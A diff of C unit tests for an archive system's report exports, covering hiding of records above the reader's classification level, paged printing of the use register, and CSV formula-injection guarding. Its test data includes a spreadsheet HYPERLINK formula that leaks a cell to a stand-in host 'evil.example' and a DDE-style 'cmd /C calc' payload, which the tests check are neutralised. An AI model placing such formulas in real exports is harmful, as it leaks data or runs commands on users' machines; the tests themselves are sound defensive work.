@@ -1,5 +1,7 @@
 /* Unit tests of the coverage and ledger reports on records with known
- * answers, and of their CSV and HTML forms. */
+ * answers, and of their CSV and HTML forms: records above the reader's 密级
+ * counted but not listed, formula-like cells guarded in every CSV export,
+ * the printable use register grouped and paged. */
 #include "idx_audit.h"
 #include "idx_export.h"
 #include "idx_report.h"
@@ -11,12 +13,15 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <time.h>
 #include <unistd.h>
 
 static idx_index *pIdx;
 
-/* A record with 页数 zPages (NULL: none) and the stored pages listed in zStored ("1,2"). */
-static void put(const char *zCode, const char *zCarrier, const char *zPages, const char *zStored)
+/* A record with 页数 zPages (NULL: none), the stored pages listed in zStored
+ * ("1,2"), a title and a 密级 (NULL: the usual). */
+static void put_full(const char *zCode, const char *zCarrier, const char *zPages, const char *zStored,
+                     const char *zTitle, const char *zClass)
 {
     proto_record r;
     proto_problem err;
@@ -24,8 +29,10 @@ static void put(const char *zCode, const char *zCarrier, const char *zPages, con
     int replaced;
     proto_record_init(&r);
     proto_record_set(&r, PF_CODE, zCode, strlen(zCode));
-    proto_record_set(&r, PF_TITLE, "题名", strlen("题名"));
+    if (!zTitle) zTitle = "题名";
+    proto_record_set(&r, PF_TITLE, zTitle, strlen(zTitle));
     proto_record_set(&r, PF_LOCATION, "1号库-3列", strlen("1号库-3列"));
+    if (zClass) proto_record_set(&r, PF_CLASSIFICATION, zClass, strlen(zClass));
     if (zCarrier) proto_record_set(&r, PF_CARRIER, zCarrier, strlen(zCarrier));
     if (zPages) proto_record_set(&r, PF_PAGES, zPages, strlen(zPages));
     CHECK_INT(proto_record_check(&r, &err, NULL, 0, NULL), PS_OK);
@@ -42,9 +49,267 @@ static void put(const char *zCode, const char *zCarrier, const char *zPages, con
     proto_record_clear(&r);
 }
 
+static void put(const char *zCode, const char *zCarrier, const char *zPages, const char *zStored)
+{
+    put_full(zCode, zCarrier, zPages, zStored, NULL, NULL);
+}
+
 static double num(const json_t *o, const char *zKey)
 {
     return json_number_value(json_object_get(o, zKey));
+}
+
+/* ---- records above the reader's 密级: counted, never listed --------------- */
+
+typedef struct {
+    const char *const *azCode; /* hidden, NULL-terminated */
+    int nCalls;
+} hide_ctx;
+
+static int hide(void *ctx, const char *zCode)
+{
+    hide_ctx *h = ctx;
+    h->nCalls++;
+    for (const char *const *pz = h->azCode; *pz; pz++)
+        if (strcmp(*pz, zCode) == 0) return 1;
+    return 0;
+}
+
+static void test_coverage_hidden(void)
+{
+    char zErr[256], zNote[200];
+    char *z = NULL;
+    size_t n = 0;
+    json_t *r = NULL;
+    put_full("Z033-WS·2019-Y-BGS-0001", "纸质", "2", NULL, "青龙计划", "机密");  /* missing, hidden */
+    put_full("Z033-WS·2019-Y-BGS-0002", "纸质", "1", NULL, NULL, NULL);        /* missing */
+    put_full("Z033-WS·2019-Y-BGS-0003", "纸质", "1", "1", NULL, "绝密");       /* digitized, hidden */
+    put_full("Z033-WS·2019-Y-BGS-0004", "纸质", "3", "1", NULL, "秘密");       /* missing, hidden */
+    CHECK_INT(idx_index_commit(pIdx, zErr, sizeof zErr), PS_OK);
+    static const char *const azHide[] = {"Z033-WS·2019-Y-BGS-0001", "Z033-WS·2019-Y-BGS-0003",
+                                         "Z033-WS·2019-Y-BGS-0004", NULL};
+    hide_ctx hc = {azHide, 0};
+    idx_report_opts o = {.zFonds = "Z033", .xHidden = hide, .pHiddenCtx = &hc};
+    CHECK_INT(idx_report_coverage(pIdx, &o, &r, zErr, sizeof zErr), PS_OK);
+    /* the rate is the archive's */
+    CHECK_INT(num(r, "total"), 4);
+    CHECK_INT(num(r, "digitized"), 1);
+    CHECK(fabs(num(r, "rate") - 0.25) < 1e-9);
+    CHECK_INT(num(json_object_get(r, "pages"), "total"), 7);
+    CHECK_INT(num(json_array_get(json_object_get(r, "by_fonds"), 0), "total"), 4);
+    /* the list: only what the reader may see */
+    CHECK_INT(num(r, "missing_total"), 1);
+    CHECK_INT(num(r, "missing_hidden"), 2);
+    json_t *m = json_object_get(r, "missing");
+    CHECK_INT(json_array_size(m), 1);
+    CHECK_STR(json_string_value(json_object_get(json_array_get(m, 0), "code")), "Z033-WS·2019-Y-BGS-0002");
+    CHECK_INT(hc.nCalls, 2); /* once for each classified record not digitized */
+    snprintf(zNote, sizeof zNote, IDX_EXPORT_HIDDEN_NOTE, 2ll);
+    CHECK_STR(zNote, "另有 2 件档案的密级高于您的查阅权限，未列出。");
+    CHECK_INT(idx_export_csv(IDX_REPORT_COVERAGE, r, 0, &z, &n), PS_OK);
+    CHECK_CONTAINS(z, "Z033-WS·2019-Y-BGS-0002,题名,1号库-3列,1,0\r\n");
+    CHECK_CONTAINS(z, zNote);
+    CHECK(strstr(z, "BGS-0001") == NULL && strstr(z, "BGS-0004") == NULL && strstr(z, "青龙") == NULL);
+    free(z);
+    CHECK_INT(idx_export_html(IDX_REPORT_COVERAGE, r, &z, &n), PS_OK);
+    CHECK_CONTAINS(z, zNote);
+    CHECK_CONTAINS(z, "待数字化（3 件）");
+    CHECK(strstr(z, "BGS-0001") == NULL && strstr(z, "BGS-0004") == NULL && strstr(z, "青龙") == NULL);
+    free(z);
+    json_decref(r);
+    /* paged over the records listed */
+    idx_report_opts oPage = {.zFonds = "Z033", .offset = 1, .limit = 1, .xHidden = hide, .pHiddenCtx = &hc};
+    CHECK_INT(idx_report_coverage(pIdx, &oPage, &r, zErr, sizeof zErr), PS_OK);
+    CHECK_INT(num(r, "missing_total"), 1);
+    CHECK_INT(json_array_size(json_object_get(r, "missing")), 0);
+    json_decref(r);
+    /* a reader who may see everything: every record listed, none with its 密级 */
+    idx_report_opts oAll = {.zFonds = "Z033"};
+    CHECK_INT(idx_report_coverage(pIdx, &oAll, &r, zErr, sizeof zErr), PS_OK);
+    CHECK_INT(num(r, "missing_total"), 3);
+    CHECK_INT(num(r, "missing_hidden"), 0);
+    size_t i;
+    json_t *e;
+    json_array_foreach(json_object_get(r, "missing"), i, e) CHECK(json_object_get(e, "classification") == NULL);
+    CHECK_STR(json_string_value(json_object_get(json_array_get(json_object_get(r, "missing"), 0), "title")), "青龙计划");
+    CHECK_INT(idx_export_csv(IDX_REPORT_COVERAGE, r, 0, &z, &n), PS_OK);
+    CHECK(strstr(z, "另有") == NULL);
+    free(z);
+    CHECK_INT(idx_export_html(IDX_REPORT_COVERAGE, r, &z, &n), PS_OK);
+    CHECK(strstr(z, "另有") == NULL);
+    free(z);
+    json_decref(r);
+}
+
+/* ---- CSV formula injection ------------------------------------------------ */
+
+static const char zFormula[] = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击\")";
+/* as a guarded CSV cell: a leading ', quoted by libcsv for its quotes and comma */
+static const char zFormulaCell[] = "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"点击\"\")\"";
+
+/* The CSV of a report (UTF-8, and GB18030 when gb). */
+static char *csv_of(idx_report_kind k, const char *zJson, int gb)
+{
+    json_error_t je;
+    json_t *r = json_loads(zJson, 0, &je);
+    char *z = NULL;
+    size_t n = 0;
+    CHECK(r != NULL);
+    CHECK_INT(idx_export_csv(k, r, gb, &z, &n), PS_OK);
+    json_decref(r);
+    return z;
+}
+
+static void test_csv_formulas(void)
+{
+    char zErr[256], zJson[1024], zWant[512];
+    char *z;
+    size_t n;
+    json_t *r;
+    /* a title as imported, through the coverage report */
+    put_full("Z034-WS·2019-Y-BGS-0001", "纸质", "2", NULL, zFormula, NULL);
+    CHECK_INT(idx_index_commit(pIdx, zErr, sizeof zErr), PS_OK);
+    idx_report_opts o = {.zFonds = "Z034"};
+    CHECK_INT(idx_report_coverage(pIdx, &o, &r, zErr, sizeof zErr), PS_OK);
+    for (int gb = 0; gb < 2; gb++) {
+        CHECK_INT(idx_export_csv(IDX_REPORT_COVERAGE, r, gb, &z, &n), PS_OK);
+        snprintf(zWant, sizeof zWant, "Z034-WS·2019-Y-BGS-0001,%s,", zFormulaCell);
+        if (!gb) CHECK_CONTAINS(z, zWant);
+        /* GB18030 leaves ASCII as it is */
+        CHECK_CONTAINS(z, ",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"");
+        CHECK(strstr(z, ",\"=HYPERLINK") == NULL);
+        free(z);
+    }
+    json_decref(r);
+
+    /* the ledger: text guarded, a negative number left a number */
+    z = csv_of(IDX_REPORT_LEDGER,
+               "{\"rows\":[{\"fonds\":\"+Z1\",\"category\":\"-WS\",\"year\":2017,\"retention\":\"@Y\",\"items\":-2,"
+               "\"pages\":3,\"digitized_items\":0,\"scanned_pages\":0}],\"totals\":{\"items\":-2,\"pages\":3,"
+               "\"digitized_items\":0,\"scanned_pages\":0}}", 0);
+    CHECK_CONTAINS(z, "\r\n'+Z1,'-WS,2017,'@Y,-2,3,0,0\r\n");
+    CHECK_CONTAINS(z, "合计,,,,-2,3,0,0\r\n");
+    free(z);
+
+    /* the catalog audit: file and reason */
+    z = csv_of(IDX_REPORT_CATALOG,
+               "{\"rows\":1,\"complete\":1,\"entry_rate\":1.0,\"errors\":1,\"warnings\":0,\"score\":-0.5,"
+               "\"irregular_total\":1,\"irregular\":[{\"file\":\"-f.csv\",\"line\":2,\"code\":\"Z\",\"rule\":\"date\","
+               "\"field\":\"日期\",\"key\":\"date\",\"reason\":\"@SUM(1+1)*cmd|' /C calc'!A0\",\"severity\":\"error\"}]}", 0);
+    CHECK_CONTAINS(z, "\r\n'-f.csv,2,Z,日期,日期,'@SUM(1+1)*cmd|' /C calc'!A0,不规范\r\n");
+    CHECK_CONTAINS(z, "得分（满分5分）,-0.50\r\n");
+    free(z);
+
+    /* acceptance: a check's title, an item's 档号 (TAB) and reason (CR) */
+    z = csv_of(IDX_REPORT_ACCEPTANCE,
+               "{\"checks\":[{\"check\":\"low_dpi\",\"title\":\"=1+2\",\"severity\":\"fail\",\"count\":1,"
+               "\"items\":[{\"code\":\"\\tZ\",\"file\":\"a.jpg\",\"page\":-1,\"reason\":\"\\rX\"}]}]}", 0);
+    CHECK_CONTAINS(z, "\r\n'=1+2,不通过,1\r\n");
+    CHECK_CONTAINS(z, "\r\n'=1+2,'\tZ,a.jpg,-1,\"'\rX\"\r\n");
+    free(z);
+
+    /* timed tests: evaluator, phrase and location; seconds stay a number */
+    z = csv_of(IDX_REPORT_TIMED,
+               "{\"runs\":[{\"id\":1,\"at\":\"2026-12-02\",\"evaluator\":\"=cmd\",\"points\":0,\"trials\":[{\"code\":\"Z\","
+               "\"kind\":\"fulltext\",\"seconds\":-1.5,\"limit_seconds\":60,\"passed\":false,\"phrase\":\"+1\","
+               "\"location\":\"-L\"}]}]}", 0);
+    CHECK_CONTAINS(z, "\r\n1,2026-12-02,'=cmd,Z,全文检索,-1.50,60,未通过,'+1,'-L\r\n");
+    free(z);
+
+    /* the register: purpose, user and title; in both encodings */
+    snprintf(zJson, sizeof zJson,
+             "{\"total\":1,\"entries\":[{\"seq\":1,\"time\":\"2026-12-02T10:00:00+08:00\",\"user\":\"@li\","
+             "\"role\":\"archivist\",\"code\":\"Z031-WS·2018-Y-BGS-0001\",\"title\":\"-t\",\"kind\":\"text\",\"page\":1,"
+             "\"purpose\":\"=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A1,\\\"点击\\\")\",\"approval\":-3}]}");
+    z = csv_of(IDX_REPORT_REGISTER, zJson, 0);
+    snprintf(zWant, sizeof zWant, "\r\n1,2026-12-02T10:00:00+08:00,'@li,archivist,Z031-WS·2018-Y-BGS-0001,'-t,查阅全文,1,%s,-3\r\n",
+             zFormulaCell);
+    CHECK_CONTAINS(z, zWant);
+    free(z);
+    z = csv_of(IDX_REPORT_REGISTER, zJson, 1);
+    CHECK_CONTAINS(z, ",'@li,archivist,Z031-WS");
+    CHECK_CONTAINS(z, ",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"");
+    CHECK_CONTAINS(z, "\",-3\r\n");
+    free(z);
+}
+
+/* ---- the printable use register ------------------------------------------- */
+
+static json_t *use(int seq, const char *zTime, const char *zUser, const char *zCode, const char *zKind, int page,
+                   const char *zPurpose)
+{
+    return json_pack("{s:i,s:s,s:s,s:s,s:s,s:s,s:s,s:i,s:s}", "seq", seq, "time", zTime, "user", zUser, "role",
+                     "archivist", "code", zCode, "title", "题名", "kind", zKind, "page", page, "purpose", zPurpose);
+}
+
+static size_t count(const char *z, const char *zNeedle)
+{
+    size_t n = 0;
+    for (const char *p = z; (p = strstr(p, zNeedle)) != NULL; p += strlen(zNeedle)) n++;
+    return n;
+}
+
+static void test_register_print(void)
+{
+    char *z = NULL;
+    size_t n = 0;
+    json_t *a = json_array();
+    /* one user, record, day and purpose: one row, pages in the order first seen */
+    json_array_append_new(a, use(1, "2026-12-01T10:00:00+08:00", "li", "A", "text", 1, "P"));
+    json_array_append_new(a, use(2, "2026-12-01T10:01:00+08:00", "ping", "A", "text", 2, "P"));  /* another user */
+    json_array_append_new(a, use(3, "2026-12-01T15:00:00+08:00", "li", "A", "image", 3, "P"));
+    json_array_append_new(a, use(4, "2026-12-02T09:00:00+08:00", "li", "A", "text", 1, "P"));    /* another day */
+    json_array_append_new(a, use(5, "2026-12-01T16:00:00+08:00", "li", "A", "text", 1, "Q"));    /* another purpose */
+    json_array_append_new(a, use(6, "2026-12-01T16:00:00+08:00", "li", "B", "text", 1, "P"));    /* another record */
+    json_array_append_new(a, use(7, "2026-12-01T17:00:00+08:00", "li", "A", "text", 1, "P"));    /* page seen again */
+    json_array_append_new(a, use(8, "2026-12-01T18:00:00+08:00", "li", "A", "text", 2, "P"));
+    json_t *r = json_pack("{s:i,s:o}", "total", 8, "entries", a);
+    CHECK_INT(idx_export_html(IDX_REPORT_REGISTER, r, &z, &n), PS_OK);
+    CHECK_INT(count(z, "<tr><td class=\"n\">"), 5);
+    CHECK_CONTAINS(z, "<tr><td class=\"n\">1</td><td>2026-12-01</td><td>li</td><td>A</td><td>题名</td>"
+                      "<td>查阅全文、查看扫描件</td><td>1、3、2</td><td>P</td><td></td><td></td><td></td></tr>"
+                      "<tr><td class=\"n\">2</td><td>2026-12-01</td><td>ping</td><td>A</td><td>题名</td><td>查阅全文</td>"
+                      "<td>2</td><td>P</td>");
+    CHECK_CONTAINS(z, "<tr><td class=\"n\">3</td><td>2026-12-02</td><td>li</td><td>A</td>");
+    CHECK_CONTAINS(z, "<tr><td class=\"n\">4</td><td>2026-12-01</td><td>li</td><td>A</td><td>题名</td><td>查阅全文</td>"
+                      "<td>1</td><td>Q</td>");
+    CHECK_CONTAINS(z, "<tr><td class=\"n\">5</td><td>2026-12-01</td><td>li</td><td>B</td>");
+    CHECK_CONTAINS(z, "共 5 条登记（8 次查阅或导出）。");
+    CHECK(strstr(z, "另有") == NULL);
+    free(z);
+    json_decref(r);
+
+    /* 20,000 views with distinct purposes: grouped in linear time, the
+     * first 5000 rows printed and a line for the rest */
+    a = json_array();
+    for (int i = 0; i < 20000; i++) {
+        char zP[16];
+        snprintf(zP, sizeof zP, "p%d", i);
+        json_array_append_new(a, use(i + 1, "2026-12-01T10:00:00+08:00", "li", "Z031-WS·2018-Y-BGS-0001", "text", 1, zP));
+    }
+    r = json_pack("{s:i,s:o}", "total", 20000, "entries", a);
+    struct timespec t0, t1;
+    clock_gettime(CLOCK_MONOTONIC, &t0);
+    CHECK_INT(idx_export_html(IDX_REPORT_REGISTER, r, &z, &n), PS_OK);
+    clock_gettime(CLOCK_MONOTONIC, &t1);
+    printf("register print of 20000 entries: %.3f s\n",
+           (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9);
+    CHECK_INT(count(z, "<tr><td class=\"n\">"), IDX_EXPORT_HTML_ROWS);
+    CHECK_CONTAINS(z, "<tr><td class=\"n\">5000</td>");
+    CHECK_CONTAINS(z, "<td>p4999</td>");
+    CHECK(strstr(z, "<td>p5000</td>") == NULL);
+    CHECK_CONTAINS(z, "共 20000 条登记（20000 次查阅或导出）。");
+    CHECK_CONTAINS(z, "仅列出前 5000 条登记，另有 15000 条未列出；导出 CSV 可得每一次查阅或导出。");
+    free(z);
+    /* out of memory anywhere: a clean failure */
+    for (long k = 1; k < 40; k += 3) {
+        px_fail_after(k);
+        int rc = idx_export_html(IDX_REPORT_REGISTER, r, &z, &n);
+        px_fail_reset();
+        CHECK(rc == PS_OK || rc == PS_NOMEM);
+        if (rc == PS_OK) free(z);
+    }
+    json_decref(r);
 }
 
 int main(void)
@@ -64,7 +329,7 @@ int main(void)
     put("Z032-KJ·2018-Y-BGS-0007", "纸质", NULL, "1");     /* no 页数, a page: digitized */
     CHECK_INT(idx_index_commit(pIdx, zErr, sizeof zErr), PS_OK);
 
-    idx_report_opts o = {NULL, 0, 0};
+    idx_report_opts o = {.zFonds = NULL};
     json_t *r = NULL;
     CHECK_INT(idx_report_coverage(pIdx, &o, &r, zErr, sizeof zErr), PS_OK);
     CHECK_INT(num(r, "total"), 5);
@@ -114,7 +379,7 @@ int main(void)
     json_decref(r);
 
     /* one 全宗; the missing list paged */
-    idx_report_opts o2 = {"Z032", 1, 1};
+    idx_report_opts o2 = {.zFonds = "Z032", .offset = 1, .limit = 1};
     CHECK_INT(idx_report_coverage(pIdx, &o2, &r, zErr, sizeof zErr), PS_OK);
     CHECK_INT(num(r, "total"), 2);
     CHECK_INT(num(r, "digitized"), 1);
@@ -170,8 +435,9 @@ int main(void)
         "Z033-WS·2019-Y-AUD-0001,\"没有结束的引号,县扶贫办,20190101,1\n"
         "Z033-WS·2019-Y-AUD-0002,正常,县扶贫办,20190101,1\n"
         "Z033-WS·2019-Y-AUD-0003,NUL\0标题,县扶贫办,20190101,1\n";
-    CHECK_INT(idx_catalog_store(zDir, zCat, sizeof zCat - 1, zErr, sizeof zErr), PS_OK);
-    idx_report_opts oc = {NULL, 0, 100};
+    int kept = 0;
+    CHECK_INT(idx_catalog_store(zDir, zCat, sizeof zCat - 1, 1, &kept, zErr, sizeof zErr), PS_OK);
+    idx_report_opts oc = {NULL, 0, 100, NULL, NULL};
     CHECK_INT(idx_report_catalog(pIdx, zDir, &oc, &r, zErr, sizeof zErr), PS_OK);
     CHECK_INT(num(r, "rows"), 3);
     int nShape = 0;
@@ -185,6 +451,9 @@ int main(void)
     }
     CHECK_INT(nShape, 2);
     json_decref(r);
+    test_coverage_hidden();
+    test_csv_formulas();
+    test_register_print();
 
     idx_index_close(pIdx);
     px_test_rmdir(zDir);
